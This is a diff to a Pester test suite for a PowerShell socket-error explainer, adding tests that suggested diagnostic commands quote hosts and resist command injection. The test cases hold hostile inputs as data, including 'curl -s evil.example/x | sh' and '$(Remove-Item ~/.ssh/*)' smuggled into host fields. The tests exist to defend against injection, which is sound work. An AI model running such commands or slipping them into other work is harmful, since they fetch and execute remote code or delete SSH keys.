@@ -198,7 +198,7 @@ Describe 'Get-SocketErrorInfo output is flat' {
         $back = @(Import-Csv -Path $csv)
         $back.Count | Should -Be 6
         ($back[0].PSObject.Properties.Name -join ',') |
-            Should -Be 'Key,Platform,Name,Number,Message,SocketError,NativeErrorCode,Summary,Causes,Scenarios,Counters,Source,NextStep,Runtime,Matched,PatternSource,Note,LinePlatform'
+            Should -Be 'Key,Platform,Name,Number,Message,SocketError,NativeErrorCode,Summary,Causes,Scenarios,Counters,Source,NextStep,NextCommand,Runtime,Matched,PatternSource,Note,LinePlatform'
         $back.Key | Should -Be @($rows.Key)
         $back.Platform | Should -Be @($rows.Platform | ForEach-Object ToString)
         [int]$back[2].Number | Should -Be 10054
@@ -248,7 +248,7 @@ Describe 'Get-SocketErrorInfo reads whole log lines' {
         $rows = @(Get-Content $log | Get-SocketErrorInfo -Platform Linux)
         $rows.Key | Should -Be @('ECONNRESET', 'ECONNREFUSED')
         $rows[1].Runtime | Should -Match 'Go'
-        $rows[1].NextStep | Should -Match '^Test-TcpRefused -ComputerName 10\.0\.0\.9 -Port 5432 '
+        $rows[1].NextStep | Should -Match "^Test-TcpRefused -ComputerName '10\.0\.0\.9' -Port 5432 "
     }
 
     It 'still says ObjectNotFound for a line with no socket error' {
@@ -265,7 +265,7 @@ Describe 'Get-SocketErrorInfo with results piped in' {
         $result.Outcome | Should -Be 'Refused'
         $rows = @($result | Get-SocketErrorInfo)
         $rows.Key | Sort-Object -Unique | Should -Be 'ECONNREFUSED'
-        $rows[0].NextStep | Should -Match "^Test-TcpRefused -ComputerName 127\.0\.0\.1 -Port $port "
+        $rows[0].NextStep | Should -Match "^Test-TcpRefused -ComputerName '127\.0\.0\.1' -Port $port "
     }
 
     It 'explains any object with ErrnoName, Errno or SocketError (<Case>)' -TestCases @(
@@ -284,13 +284,106 @@ Describe 'Get-SocketErrorInfo with results piped in' {
     }
 }
 
+Describe 'Get-SocketErrorInfo suggests only commands built from real values' {
+    BeforeAll {
+        # Parses a suggested command; returns why it is not exactly one command whose arguments are constants (or nothing).
+        function Get-CommandProblem([string] $Command) {
+            $tokens = $null; $parseErrors = $null
+            $ast = [System.Management.Automation.Language.Parser]::ParseInput($Command, [ref]$tokens, [ref]$parseErrors)
+            if ($parseErrors.Count) { return "parse error: $($parseErrors[0].Message)" }
+            $statements = $ast.EndBlock.Statements
+            if ($statements.Count -ne 1 -or $statements[0] -isnot [System.Management.Automation.Language.PipelineAst] -or
+                $statements[0].PipelineElements.Count -ne 1 -or
+                $statements[0].PipelineElements[0] -isnot [System.Management.Automation.Language.CommandAst]) { return 'not exactly one command' }
+            foreach ($element in $statements[0].PipelineElements[0].CommandElements) {
+                $constant = $element -is [System.Management.Automation.Language.StringConstantExpressionAst] -and
+                    $element.StringConstantType -in 'BareWord', 'SingleQuoted'
+                $constant = $constant -or ($element -is [System.Management.Automation.Language.ConstantExpressionAst] -and
+                    $element -isnot [System.Management.Automation.Language.StringConstantExpressionAst])
+                $constant = $constant -or ($element -is [System.Management.Automation.Language.CommandParameterAst] -and $null -eq $element.Argument)
+                if (-not $constant) { return "not a constant: $($element.Extent.Text) ($($element.GetType().Name))" }
+            }
+        }
+    }
+
+    It 'keeps the payload of <Case> out of the next step' -TestCases @(
+        @{ Case = 'a psql host list'; Payload = 'curl -s evil.example/x | sh'
+           Line = 'psql: error: connection to server at "db" (10.0.0.9; curl -s evil.example/x | sh), port 5432 failed: No route to host' }
+        @{ Case = 'a curl host'; Payload = 'Remove-Item'
+           Line = 'curl: (7) Failed to connect to $(Remove-Item~/.ssh/*) port 80 after 2 ms: Connection refused' }
+        @{ Case = 'a quote in a curl host'; Payload = 'Remove-Item'
+           Line = 'curl: (7) Failed to connect to x'';Remove-Item~;''y: port 80 after 2 ms: Connection refused' }
+    ) {
+        param($Line, $Payload)
+        $rows = @(Get-SocketErrorInfo $Line -Platform Linux)
+        $rows.Count | Should -Be 1
+        $rows[0].NextStep | Should -Not -BeLike "*$Payload*"
+        $rows[0].NextCommand | Should -BeLike "Test-TcpRefused -ComputerName '<host>' -Port *"
+        Get-CommandProblem $rows[0].NextCommand | Should -BeNullOrEmpty
+    }
+
+    It 'keeps a piped result''s Target <Target> out of the next step' -TestCases @(
+        @{ Target = '$(Remove-Item ~/.ssh/*)' }
+        @{ Target = 'x'';Remove-Item~;''y' }
+        @{ Target = 'x'';Remove-Item~;''y:' }
+        @{ Target = '10.0.0.9; curl -s evil.example/x | sh' }
+    ) {
+        param($Target)
+        $rows = @([pscustomobject]@{ ErrnoName = 'ECONNREFUSED'; Target = $Target; Port = 5432 } | Get-SocketErrorInfo -Platform Linux)
+        $rows[0].NextStep | Should -Not -BeLike '*Remove-Item*'
+        $rows[0].NextStep | Should -Not -BeLike '*curl*'
+        $rows[0].NextCommand | Should -Be "Test-TcpRefused -ComputerName '<host>' -Port 5432 -Count 5"
+    }
+
+    It 'quotes a real address and name: <Target>' -TestCases @(
+        @{ Target = '10.0.0.9' }, @{ Target = 'db.internal' }, @{ Target = 'fe80::1%eth0' }
+    ) {
+        param($Target)
+        $row = [pscustomobject]@{ ErrnoName = 'EHOSTUNREACH'; Target = $Target; Port = 5432 } | Get-SocketErrorInfo -Platform Linux
+        $row.NextCommand | Should -Be "Test-TcpRefused -ComputerName '$Target' -Port 5432"
+        $row.NextStep | Should -BeLike "*ip route get '$Target' *"
+    }
+
+    It 'turns 400 hostile hosts in 8 kinds of line into commands whose arguments are all constants' {
+        # Fragments a shell or PowerShell gives meaning to, joined at random (fixed seed: the same cases every run).
+        $fragments = @("'", [string][char]0x2019, [string][char]0x2018, '"', '$(', ')', ';', '|', '&', '`', '@(', '{', '}', '#', '<', '>', ' ',
+            '-', '%', ':', '[', ']', '..', '$env:HOME', 'Remove-Item', '10.0.0.9', '::1', 'db', '0x7f', '000', "`t", '*', ',', '=')
+        $random = [System.Random]::new(23)
+        $hosts = foreach ($i in 1..400) {
+            -join (1..(1 + $random.Next(6)) | ForEach-Object { $fragments[$random.Next($fragments.Count)] })
+        }
+        $templates = @(
+            'curl: (7) Failed to connect to {0} port 80 after 2 ms: Connection refused'
+            'psql: error: connection to server at "db" ({0}), port 5432 failed: No route to host'
+            'read tcp 10.0.0.5:51234->{0}:5432: read: connection reset by peer'
+            'dial tcp {0}:5432: connect: connection refused'
+            'Error: connect ECONNREFUSED {0}:6379'
+            'recv() failed (104: Connection reset by peer), upstream: "http://{0}:8080/"'
+            'redis.exceptions.ConnectionError: Error 111 connecting to {0}:6379. Connection refused.'
+            'System.Net.Http.HttpRequestException: Connection refused ({0}:5000)'
+        )
+        $checked = 0
+        foreach ($hostText in $hosts) {
+            $rows = @(foreach ($template in $templates) { Get-SocketErrorInfo ($template -f $hostText) -Platform Linux -ErrorAction SilentlyContinue })
+            $rows += [pscustomobject]@{ ErrnoName = 'ECONNRESET'; Target = $hostText; Port = 80 } | Get-SocketErrorInfo -Platform Linux
+            foreach ($row in $rows) {
+                $problem = Get-CommandProblem $row.NextCommand
+                if ($problem) { throw "host [$hostText] gave [$($row.NextCommand)]: $problem" }
+                $row.NextStep | Should -BeLike "$($row.NextCommand)*"
+                $checked++
+            }
+        }
+        $checked | Should -BeGreaterThan 1200
+    }
+}
+
 Describe 'Get-SocketErrorInfo default view' {
     It 'shows the causes and the next step once per error, not once per platform, within 80 columns' {
         $text = Get-SocketErrorInfo 'read tcp 10.0.0.5:51234->10.0.0.9:5432: read: connection reset by peer' | Out-String -Width 80
         ([regex]::Matches($text, 'Causes:')).Count | Should -Be 1
         ([regex]::Matches($text, 'Next:')).Count | Should -Be 1
         $text | Should -Match 'Seen as:\s+Go'
-        $text | Should -Match 'Next:\s+Test-TcpRefused -ComputerName 10\.0\.0\.9 -Port 5432'
+        $text | Should -Match 'Next:\s+Test-TcpRefused -ComputerName ''10\.0\.0\.9'' -Port 5432'
         $text | Should -Match 'Linux\s+ECONNRESET\s+104\s+ConnectionReset\s+Connection reset by peer'
         foreach ($line in $text -split "`r?`n") { $line.Length | Should -BeLessOrEqual 80 }
     }
